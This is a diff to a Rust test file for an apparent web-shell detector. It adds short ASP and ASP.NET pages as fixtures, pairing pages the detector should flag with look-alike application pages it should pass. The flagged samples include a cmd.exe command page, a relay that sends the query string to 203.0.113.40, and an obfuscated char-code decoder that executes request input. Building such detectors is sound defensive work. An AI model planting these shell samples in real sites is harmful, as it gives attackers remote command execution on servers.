@@ -279,6 +279,21 @@ fn cases() -> Vec<Case> {
             "<%@ Page Language=\"C#\" %>\n<%\n// see https://curl.se/docs/ for the API client\nResponse.Write(\"curl https://api.example.net/v1/items\");\n%>\n",
         ),
         case(
+            "EXRAY_NET_Page_Runs_Command_Shell",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nstring Run(string a) {\n var psi = new ProcessStartInfo();\n psi.FileName = \"cmd.exe\";\n psi.Arguments = \"/c \" + a;\n psi.RedirectStandardOutput = true;\n psi.UseShellExecute = false;\n return Process.Start(psi).StandardOutput.ReadToEnd();\n}\nvoid Page_Load(object s, EventArgs e) { Response.Write(Run(\"whoami\")); }\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n var psi = new ProcessStartInfo(Server.MapPath(\"~/bin/wkhtmltopdf.exe\"), \"in.html out.pdf\");\n psi.RedirectStandardOutput = true;\n psi.UseShellExecute = false;\n Process.Start(psi).WaitForExit();\n}\n</script>\n",
+        ),
+        case(
+            "EXRAY_NET_Service_Starts_Program",
+            "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n [WebMethod]\n public string Go() { System.Diagnostics.Process.Start(@\"C:\\Windows\\notepad.exe\"); return \"ok\"; }\n}\n",
+            "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n [WebMethod]\n public string Status() { return System.Diagnostics.Process.GetCurrentProcess().ProcessName; }\n}\n",
+        ),
+        case(
+            "EXRAY_Identity_Recon_Page",
+            "<%@ Page Language=\"C#\" %>\n<% who.Text = Environment.GetEnvironmentVariable(\"USERDOMAIN\") + \"/\" + Environment.GetEnvironmentVariable(\"USERNAME\"); %>\n<pre><asp:Literal runat=\"server\" id=\"who\" /></pre>\n",
+            "<%@ Page Language=\"C#\" %>\n<% host.Text = Environment.MachineName + \" \" + DateTime.Now.ToString(\"u\"); %>\n<footer>Served by <asp:Literal runat=\"server\" id=\"host\" /></footer>\n",
+        ),
+        case(
             "EXRAY_ServU_Local_Admin_Escalation",
             "<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"POST\", \"http://127.0.0.1:43958/Admin\", False\nx.Send \"USER LocalAdministrator\" & vbCrLf & \"SITE MAINTENANCE\" & vbCrLf\n%>\n",
             "<%\n' FTP service settings page\nport = 21\nResponse.Write \"FTP server listens on port \" & port\n%>\n",
@@ -899,6 +914,8 @@ fn data_flow_tells_applications_from_shells() {
     let loud = [
         ("EXRAY_VBS_Eval_Request_Variable", "<%\nSet d = Server.CreateObject(\"Scripting.Dictionary\")\nk = \"pay\" & \"load\"\nd.Add k, Session(k)\nSession(k) = Request.Form(\"z\")\nExecute(d(k))\n%>\n"),
         ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nme = \"http://\" & Request.ServerVariables(\"HTTP_HOST\") & Request.ServerVariables(\"SCRIPT_NAME\")\nbody = Fetch(src & \"index.php?host=\" & me)\nResponse.Write body\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%>\n"),
+        ("EXRAY_Remote_Content_Relay", "<%\nsrc = \"http://203.0.113.40:81/\"\nbody = Fetch(src & \"?q=\" & Request.ServerVariables(\"QUERY_STRING\"))\nFunction Fetch(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.send\n Fetch = h.responseText\nEnd Function\n%><html><body><%= body %></body></html>\n"),
+        ("EXRAY_ASP_Execute_Decoder", "<%\non error resume next\nk = \"\"\nd = \"\"\nd = d & \"101B118B97B108B32B114B101B113B117B101B115B116B40B34B\"\nd = d & \"120B34B41B\"\nfor each c in split(d, \"B\") : k = k & chr(c) : next\nexecute k\n%>\n"),
         ("EXRAY_SQL_Console_Request_Variables", "<%\ncs = Request.Form(\"c\")\nq = Request.Form(\"q\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open cs\nSet rs = conn.Execute(q)\n%>\n"),
         ("EXRAY_Page_Embedded_Executable", "<%\nb = Chr(77)&Chr(90)&Chr(144)&Chr(0)&Chr(3)&Chr(0)\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(p, 2, 0)\nf.Write b\n%>\n"),
         ("EXRAY_Page_Embedded_Executable", "<%@ Page Language=\"C#\" %>\n<% byte[] pe = new byte[] { 0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00 }; %>\n"),
@@ -978,6 +995,19 @@ fn application_kinds_trip_nothing() {
         "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.OpenTextFile(Server.MapPath(\"/config/const.asp\"), 1)\nMB = f.ReadAll\nf.Close\nMB = Replace(MB, oldLogo, Request.Form(\"logo\"))\nSet f = fso.CreateTextFile(Server.MapPath(\"/config/const.asp\"), True)\nf.Write MB\nf.Close\n%>\n<form method=\"post\"><input name=\"logo\" value=\"<%=request(\"logo\")%>\"></form>\n",
         // a forum's list of crawler names beside an update check
         "<%\nFunction BotName(ua)\n If InStr(ua, \"Googlebot\") > 0 Then BotName = \"Google\"\n If InStr(ua, \"bingbot\") > 0 Then BotName = \"Bing\"\nEnd Function\nSet x = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\nx.Open \"GET\", \"http://updates.example.org/version.txt\", False\nx.Send\nIf x.responseText <> strVersion Then Response.Write \"<p>An update is available</p>\"\n%>\n",
+        // an upload library that parses the body byte by byte and evaluates its folder setting
+        "<%\nSub BuildUpload(dir)\n bin = Request.BinaryRead(Request.TotalBytes)\n For i = 1 To LenB(bin)\n  s = s & chrB(AscB(MidB(bin, i, 1)))\n Next\n If InStr(dir, \"\"\"\") > 0 Then\n  dir = eval(dir)\n End If\nEnd Sub\n%>\n",
+        // a settings page that writes its form as quoted constants of an include page
+        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet hf = fso.CreateTextFile(Server.MapPath(\"../inc/slides.asp\"), True)\nhf.Write \"<\" & \"%\" & vbCrLf\nhf.Write \"Const pic1=\" & Chr(34) & Trim(Request(\"pic1\")) & Chr(34) & vbCrLf\nhf.Write \"Const url1=\" & Chr(34) & Trim(Request(\"url1\")) & Chr(34) & vbCrLf\nhf.Write \"%\" & \">\"\nhf.Close\n%>\n",
+        // a static-page generator whose save to a script page is commented out
+        "<%\nFunction getHTTPPage(u)\n Set h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\n h.Open \"GET\", u, False\n h.Send\n getHTTPPage = BytesToBstr(h.responseBody, \"utf-8\")\nEnd Function\nFunction C_htm(u, path)\n Html = getHTTPPage(u)\n 'set f=fso.CreateTextFile( server.mappath( \"index_c.asp\" ), true,true )\n 'f.WriteLine( Html )\n Set st = Server.CreateObject(\"ADODB.Stream\")\n st.Open\n st.WriteText Html\n st.SaveToFile Server.MapPath(path), 2\nEnd Function\n%>\n",
+        // an upload component's object named like the request, saved under the application's name
+        "<%\nDefaultPath = Server.MapPath(\"/admin/data/upFiles/\")\nSet uprequest = Server.CreateObject(\"TABSUpload4.Upload\")\nuprequest.Start DefaultPath\nsite = uprequest(\"site\")\nfullpath = uprequest(\"sFile\").SaveAs((DefaultPath + fname + \"_\" + \".\" + uprequest(\"sFile\").FileType), True)\n%>\n",
+        // an intranet tool's maintenance page that runs a local PowerShell script
+        "<%\nOn Error Resume Next\nSet objShell = Server.CreateObject(\"Wscript.Shell\")\nx = objShell.Run(\"powershell -executionpolicy bypass -windowstyle hidden -file f:\\tools\\scripts\\cleanup.ps1\")\nResponse.Write x\n%>\n",
+        // ASP.NET data binding of a field the query names, and a C# page's TemplateControl.Eval
+        "<%@ Page Language=\"C#\" %>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate>\n<b><%# Eval(\"FieldName\") %></b> <%#Eval(Request.QueryString[\"Itemid\"].ToString()) %>\n</ItemTemplate></asp:Repeater>\n",
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected string Cell(string f) {\n string col = Request.QueryString[\"sort\"] ?? f;\n return Convert.ToString(Eval(col));\n}\n</script>\n<asp:Repeater ID=\"r\" runat=\"server\"><ItemTemplate><%# Cell(\"Name\") %></ItemTemplate></asp:Repeater>\n",
     ];
     for p in pages {
         let h = hits(p);
